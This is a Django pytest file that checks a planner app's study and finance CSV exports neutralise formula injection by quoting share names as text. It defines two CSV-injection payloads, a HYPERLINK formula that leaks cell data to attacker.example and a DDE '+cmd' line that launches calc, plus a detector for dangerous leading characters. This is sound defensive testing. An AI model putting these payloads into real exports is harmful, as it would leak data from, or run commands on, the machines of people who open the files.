"""CSV exports end to end: a share named like a spreadsheet formula goes through a real study and
comes out of the study and finance CSV downloads as text (quoted), never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group, User
from django.test import Client

from planner.capacity.models import InstanceType, Policy, Pool, ShareSpec
from planner.studies.launch import StudyLaunch, launch_study
from planner.traces.models import Trace, read_upload
from tests.fixtures import eager_worker

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
PLUS = "+cmd|' /C calc'!A0"


@pytest.fixture
def formula_study(db):
    gpu, _ = InstanceType.objects.get_or_create(name="export-gpu", defaults={"gpus": 1, "hourly_price": 2.0})
    pool = Pool.objects.create(name="@pool")
    pool.set_capacity({gpu.name: 4})
    policy = Policy.objects.create(name="-policy", pool=pool)
    policy.replace_shares(
        [
            ShareSpec(FORMULA, "LEND_AND_BORROW", 100, "never", "any", {gpu.name: 2}),
            ShareSpec(PLUS, "LEND", None, "never", "any", {gpu.name: 2}),
        ]
    )
    quoted = FORMULA.replace('"', '""')
    text = (
        "job_id,submit_time,share,instance_type,instance_count,duration\n"
        f'a,0,"{quoted}",export-gpu,3,3600\nb,60,"{PLUS}",export-gpu,1,600\n'
    )
    trace = Trace.store(read_upload(io.BytesIO(text.encode()), format="planner-csv"), name="=trace")
    with eager_worker():
        study = launch_study(StudyLaunch(name="=study", trace=trace, policies=[policy]))
    assert study.runs.get().status == "succeeded", study.runs.get().error
    return study


def download(path: str) -> list[list[str]]:
    user = User.objects.create_user(username=f"finance-{path.count('/')}-{len(path)}")
    user.groups.add(Group.objects.get(name="finance"))
    client = Client()
    client.force_login(user)
    response = client.get(path)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def dangerous(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r") or (
        cell[:1] == "-" and not _is_number(cell))]  # fmt: skip


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table", ["policies", "shares"])
def test_study_csv_quotes_formula_cells(formula_study, table):
    rows = download(f"/studies/{formula_study.pk}/{table}.csv")
    assert not dangerous(rows), dangerous(rows)
    cells = {cell for row in rows for cell in row}
    if table == "shares":
        assert "'" + FORMULA in cells and "'" + PLUS in cells


@pytest.mark.parametrize("table", ["report", "check"])
def test_finance_csv_quotes_formula_cells(formula_study, table):
    run = formula_study.runs.get()
    rows = download(f"/finance/{table}.csv?study={formula_study.pk}&run={run.pk}")
    assert not dangerous(rows), dangerous(rows)
    if table == "report":
        assert "'" + FORMULA in {cell for row in rows for cell in row}
